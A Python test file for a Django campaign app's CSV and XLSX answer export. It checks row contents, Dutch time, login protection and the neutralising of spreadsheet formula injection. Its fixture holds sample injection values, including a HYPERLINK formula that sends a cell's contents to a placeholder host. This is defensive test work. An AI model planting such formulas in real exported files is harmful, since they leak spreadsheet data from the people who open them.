"""Exporting a campaign's answers with the contact data, as CSV and XLSX, safe to open in a spreadsheet."""

import csv
import io
from datetime import datetime
from datetime import timezone as dt_timezone

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from campaigns.services.answer_export import answer_text
from cms.models import CallResponse

from . import ledger

HEADER = [
    "Ontvanger: naam",
    "Ontvanger: e-mailadres",
    "Ontvanger: organisatie",
    "Ontvanger: soort organisatie",
    "Ontvanger: regio",
    "Gereageerd op",
    "Gewijzigd op",
    "Naam",
    "E-mailadres",
    "Organisatie",
    "Soort organisatie",
    "Beschrijving van het initiatief",
    "Startdatum",
    "Mag gepubliceerd worden",
]
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Klik")'


@pytest.fixture
def answered(campaign):
    ledger.start(campaign)
    anna = ledger.recipient(campaign, "Anna de Boer", "netwerk", "utrecht", organisation="Netwerk Utrecht", answered=True, consent=True)
    mallory = ledger.recipient(
        campaign,
        "@Mallory",
        "gemeente",
        "gelderland",
        organisation="+Gemeente Arnhem",
        answered=True,
        form_data=ledger.answers(name="Mallory", beschrijving_van_het_initiatief=FORMULA, startdatum="-1"),
    )
    ledger.recipient(campaign, "Cor Zonder Antwoord")
    return anna, mallory


def read_csv(content):
    """UTF-8 with a byte order mark and semicolons, as Dutch Excel opens it."""
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_csv_has_one_row_per_answer_with_contact_data(admin_client, campaign, answered):
    anna, mallory = answered
    CallResponse.objects.filter(pk=anna.response_id).update(changed_at=datetime(2026, 12, 1, 9, 30, tzinfo=dt_timezone.utc))

    response = admin_client.get(reverse("campaigns_answers_csv", args=[campaign.pk]))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(f'attachment; filename="antwoorden-campagne-{campaign.pk}-')
    header, *rows = read_csv(response.content)
    assert header == HEADER
    assert len(rows) == 2
    row = rows[0]
    assert row[:5] == ["Anna de Boer", anna.email, "Netwerk Utrecht", "Netwerk palliatieve zorg", "Utrecht"]
    assert row[6] == "2026-12-01 10:30"  # changed at, in Dutch time
    assert rows[1][6] == ""
    assert row[11] == ledger.DESCRIPTION
    assert row[-1] == "ja"
    assert "Cor Zonder Antwoord" not in response.content.decode("utf-8-sig")


def test_csv_neutralises_formulas(admin_client, campaign, answered):
    response = admin_client.get(reverse("campaigns_answers_csv", args=[campaign.pk]))

    row = read_csv(response.content)[2]
    assert row[0] == "'@Mallory"
    assert row[2] == "'+Gemeente Arnhem"
    assert row[11] == "'" + FORMULA
    assert row[12] == "'-1"
    assert row[-1] == "nee"


def test_xlsx_holds_the_same_rows_as_text_never_as_formulas(admin_client, campaign, answered):
    anna, _ = answered

    response = admin_client.get(reverse("campaigns_answers_xlsx", args=[campaign.pk]))

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == HEADER
    assert rows[1][:2] == ["Anna de Boer", anna.email]
    formula_cell = sheet.cell(row=3, column=12)
    assert (formula_cell.value, formula_cell.data_type) == (FORMULA, "s")
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}


def test_export_is_for_signed_in_campaign_staff_only(client, campaign, answered):
    response = client.get(reverse("campaigns_answers_csv", args=[campaign.pk]))

    assert response.status_code == 302
    assert "/admin/login/" in response.url


def test_yes_no_answers_read_as_dutch_words():
    assert [answer_text(True), answer_text(False), answer_text(["a", "b"]), answer_text(None)] == ["ja", "nee", "a, b", ""]
